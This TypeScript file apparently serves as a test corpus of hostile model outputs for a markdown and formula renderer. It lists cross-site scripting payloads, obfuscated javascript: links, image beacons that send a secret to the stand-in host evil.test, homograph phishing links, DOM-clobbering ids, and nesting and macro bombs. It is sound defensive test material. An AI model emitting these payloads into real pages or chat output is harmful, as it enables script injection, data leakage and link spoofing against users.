/**
 * What a hostile or broken model may write, one list for every surface that shows a model's words. `planted` is set by whatever
 * runs; `evil.test` is what nothing may ask.
 */
export interface Payload {
  /** Row of the list of threats that it belongs to: M1 elements, M2 addresses, M3 images, M4 hosts, M5 ids, M6 size and depth, M7 formulas, M8 code, M9 cut in the middle. */
  row: 'M1' | 'M2' | 'M3' | 'M4' | 'M5' | 'M6' | 'M7' | 'M8' | 'M9'
  name: string
  text: string
}

const planted = 'globalThis.planted=1'

const small = (row: Payload['row'], payloads: Record<string, string>): Payload[] =>
  Object.entries(payloads).map(([name, text]) => ({ row, name, text }))

const elements = small('M1', {
  script: `<script>${planted}</script>`,
  'script in a comment': `<!--><script>${planted}</script>-->`,
  'script in capitals': `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  'image with onerror': `<img src=x onerror=${planted}>`,
  'image of another host': '<IMG SRC="https://evil.test/p.png">',
  'svg with onload': `<svg onload=${planted}><script>${planted}</script></svg>`,
  'svg without a space': `<svg/onload=${planted}>`,
  'svg use': '<svg><use href="https://evil.test/x.svg#a"/></svg>',
  iframe: '<iframe src="https://evil.test"></iframe>',
  srcdoc: `<iframe srcdoc="<script>parent.${planted}</script>"></iframe>`,
  form: '<form action="https://evil.test"><input name=q><button>go</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  base: '<base href="https://evil.test/">',
  style: '<style>@import url(https://evil.test/x.css)</style>',
  'style attribute': '<div style="background:url(https://evil.test/b);position:fixed;inset:0">x</div>',
  link: '<link rel="stylesheet" href="https://evil.test/x.css">',
  object: '<object data="https://evil.test/x"></object>',
  embed: '<embed src="https://evil.test/x">',
  details: `<details open ontoggle=${planted}>x</details>`,
  video: '<video poster="https://evil.test/p.png"><source src="https://evil.test/v"></video>',
  audio: '<audio src="https://evil.test/a" autoplay></audio>',
  srcset: '<img srcset="https://evil.test/a 1x, https://evil.test/b 2x">',
  picture: '<picture><source srcset="https://evil.test/a"><img></picture>',
  'mathml with style': `<math><mtext><table><mglyph><style><!--</style><img src onerror=${planted}>`,
  'mathml with href': `<math href="javascript:${planted}">x</math>`,
  'mathml annotation': `<math><annotation-xml encoding="text/html"><img src=x onerror=${planted}></annotation-xml></math>`,
  'noscript title': `<noscript><p title="</noscript><img src=x onerror=${planted}>">`,
  'body onload': `<body onload=${planted}>`,
  template: `<template><script>${planted}</script></template>`,
  'element in a heading': `# <img src=x onerror=${planted}>`,
  'element in a table': `| <img src=x onerror=${planted}> |\n|---|\n| <script>${planted}</script> |`,
  'element in a footnote': `a[^x]\n\n[^x]: <script>${planted}</script>`,
  'element in a list': `- <iframe src="https://evil.test"></iframe>\n  - <object data=x></object>`
})

const addresses = small('M2', {
  javascript: `[x](javascript:${planted})`,
  'javascript in mixed case': `[x](JaVaScRiPt:${planted})`,
  'javascript with an entity': `[x](javascript&colon;${planted})`,
  'javascript with a numeric entity': `[x](java&#x0A;script:${planted})`,
  'javascript with a tab': `[x](java\tscript:${planted})`,
  'javascript in brackets': `[x](<javascript:${planted}>)`,
  'javascript with a control character': `[x](\u0001javascript:${planted})`,
  'javascript by reference': `[ref]\n\n[ref]: javascript:${planted}`,
  'javascript as autolink': `<javascript:${planted}>`,
  'javascript in an anchor': `<a href="javascript:${planted}">x</a>`,
  'data html': `[x](data:text/html,<script>${planted}</script>)`,
  'data html in base64': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscript: '[x](vbscript:msgbox(1))',
  file: '[x](file:///etc/passwd)',
  'host without scheme': '[x](//evil.test/path)',
  'own address': '[x](/api/settings)',
  blob: '[x](blob:https://evil.test/1)',
  'view-source': '[x](view-source:https://evil.test)'
})

const images = small('M3', {
  'image inline': '![x](https://evil.test/p.png?d=SECRET)',
  'image by reference': '![x][r]\n\n[r]: https://evil.test/p.png',
  'image as svg data': `![x](data:image/svg+xml,<svg onload=${planted}>)`,
  'image as png data': '![x](data:image/png;base64,AAAA)',
  'image as blob': '![x](blob:null/1)',
  'image in a link': '[![x](https://evil.test/p.png)](https://evil.test)',
  'image with a title': '![x](https://evil.test/p.png "onload=1")',
  'image of an attachment': '![x](/api/attachments/1)'
})

const hosts = small('M4', {
  userinfo: '[bank.com](https://bank.com@evil.test/x)',
  'userinfo with a password': '[x](https://bank.com:443@evil.test/)',
  homograph: '[pay](https://аpple.com/)',
  'homograph as autolink': 'https://аpple.com/login',
  'very long host': `[x](https://${'bank.com.'.repeat(25)}evil.test/)`,
  'backslashes in an address': '[bank.com](https:\\\\evil.test\\@bank.com)',
  'right-to-left override': '[\u202Emoc.knab](https://evil.test)',
  'words of another host': '[https://bank.com](https://evil.test)'
})

const ids = small('M5', {
  'id of the framework': '<p id="__NEXT_DATA__">{}</p>',
  'heading that makes an id': '# __NEXT_DATA__',
  'heading named as a property': '## constructor\n\n## __proto__\n\n## location',
  'footnote that makes an id': 'a[^body]\n\n[^body]: b',
  'name of a form': '<form name="querySelector"></form><a id=location></a>'
})

const depth = small('M6', {
  quotes: '>'.repeat(5_000),
  'spaced quotes': '> '.repeat(5_000),
  elements: '<div>'.repeat(5_000),
  'deep list': Array.from({ length: 500 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n'),
  'bullets in one line': '- '.repeat(5_000),
  'nested list and quote': Array.from({ length: 100 }, (_, level) => `${'> - '.repeat(level)}x`).join('\n'),
  footnotes: '[^1]'.repeat(5_000),
  'table of 100,000 cells': `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(50_000)}`,
  'line of 1 MB': 'x'.repeat(1_000_000),
  'words of 1 MB': 'word '.repeat(200_000),
  '100,000 fences': '```\n'.repeat(100_000),
  brackets: '['.repeat(20_000),
  links: '[a]('.repeat(5_000),
  'images without end': '![a]('.repeat(5_000),
  emphasis: '*a '.repeat(20_000),
  strong: '**a '.repeat(10_000),
  underscores: '_a '.repeat(20_000),
  strikes: '~~a '.repeat(10_000),
  backticks: '`'.repeat(20_000),
  autolinks: '<a@b.'.repeat(4_000),
  entities: '&#x41;'.repeat(5_000),
  backslashes: '\\*'.repeat(20_000),
  headings: '# a\n'.repeat(10_000),
  'underlined headings': 'a\n=\n'.repeat(10_000),
  rules: '---\n'.repeat(10_000),
  items: '- a\n'.repeat(60_000),
  paragraphs: 'a\n\n'.repeat(80_000),
  'inline code': '`a` '.repeat(8_000),
  urls: 'https://a.b/c '.repeat(5_000),
  definitions: '[a]: https://evil.test\n'.repeat(5_000)
})

/** Sixteen macros, each of them eight of the one before. */
function doublingMacros(): string {
  const names = [...'abcdefghijklmnop'].map(letter => `\\${letter}${letter}`)
  return names.map((name, index) => `\\def${name}{${(names[index - 1] ?? 'x').repeat(8)}}`).join('')
}

const formulas = small('M7', {
  'macro bomb': '$$\\def\\a{\\a\\a\\a}\\a$$',
  'doubling macros': `$$${doublingMacros()}\\pp$$`,
  'huge rule': '\\[\\rule{1e6em}{1e6em}\\]',
  'huge space': '\\(a\\hspace{-99999em}b\\kern{1e9pt}\\)',
  'nested braces': `$${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$`,
  'nested braces in one formula': `\\[${'{'.repeat(1_500)}x${'}'.repeat(1_500)}\\]`,
  'nested roots': `\\[${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}\\]`,
  'href of javascript': `\\(\\href{javascript:${planted}}{x}\\)`,
  url: '\\(\\url{https://evil.test}\\)',
  includegraphics: '$$\\includegraphics{https://evil.test/p.png}$$',
  htmlData: `\\(\\htmlData{x=1}{a}\\htmlId{body}{b}\\htmlStyle{background:url(https://evil.test)}{c}\\htmlClass{fixed}{d}\\)`,
  'colour with a declaration': '\\(\\color{red;background:url(https://evil.test/c)}x\\)',
  'element in a formula': `\\(\\text{<img src=x onerror=${planted}>}\\)`,
  'thousand formulas': '$x_1$ '.repeat(1_000),
  'formulas without end': '\\( \\[ $$ $a '.repeat(2_000),
  'dollars without end': '$a '.repeat(10_000),
  'brackets without end': '\\[ '.repeat(10_000),
  'code spans without end': '` `` ``` \\('.repeat(3_000),
  'large matrix': `\\[\\begin{matrix}${`${'1&'.repeat(60)}1\\\\`.repeat(30)}\\end{matrix}\\]`
})

const code = small('M8', {
  'unknown language': '```brainfuck++\n+++>---\n```',
  'language that is markup': `\`\`\`"><script>${planted}</script>\n<script>${planted}</script>\n\`\`\``,
  'language of the prototype': '```__proto__\nx\n```\n\n```constructor\ny\n```',
  '50,000 lines': `\`\`\`js\n${'a\n'.repeat(50_000)}\`\`\``,
  'terminal escapes': '```sh\n\u001B[2J\u001B]0;owned\u0007\u001B]8;;https://evil.test\u0007x\n```',
  'slow for a grammar of strings': `\`\`\`js\n${`"${'\\"'.repeat(900)}\n`.repeat(8)}\`\`\``,
  'slow for a grammar of numbers': `\`\`\`cpp\n${`${'1'.repeat(1_900)}x\n`.repeat(8)}\`\`\``,
  'slow for a grammar of markup': `\`\`\`html\n${`${'<a '.repeat(600)}\n`.repeat(8)}\`\`\``,
  'slow for a grammar of calls': `\`\`\`ts\n${`${'a('.repeat(900)}\n`.repeat(8)}\`\`\``,
  'slow for a grammar of lists': `\`\`\`yaml\n${`${'- '.repeat(900)}\n`.repeat(8)}\`\`\``,
  'mermaid with a click': `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${planted}>"]\n  click A href "javascript:${planted}"\n\`\`\``
})

const cuts = small('M9', {
  'image in pieces': `<im\n\ng src=https://evil.test/x onerror=${planted}>`,
  'script between fences': `\`\`\`\n<script>\n\`\`\`\n${planted}\n\`\`\`\n</script>\n\`\`\``,
  'link that turns round': `[https://bank.com](https://bank.com\n.evil.test/)`,
  'formula that was a link': `[x](\\(https://evil.test\\))`,
  'code span that was an image': '`![x](https://evil.test/`p.png)',
  'reference that comes late': `[press][late] and ![seen][late]\n\nmore\n\n[late]: javascript:${planted}`,
  'table that was a heading': `| [x](javascript:${planted})\n|---\n| ![y](https://evil.test/y)`,
  'private marks of our own': `\`\uE000\\href{javascript:${planted}}{x}\` and \uE001 \`\uE001\\includegraphics{https://evil.test/x}\``
})

export const corpus: readonly Payload[] = [...elements, ...addresses, ...images, ...hosts, ...ids, ...depth, ...formulas, ...code, ...cuts]
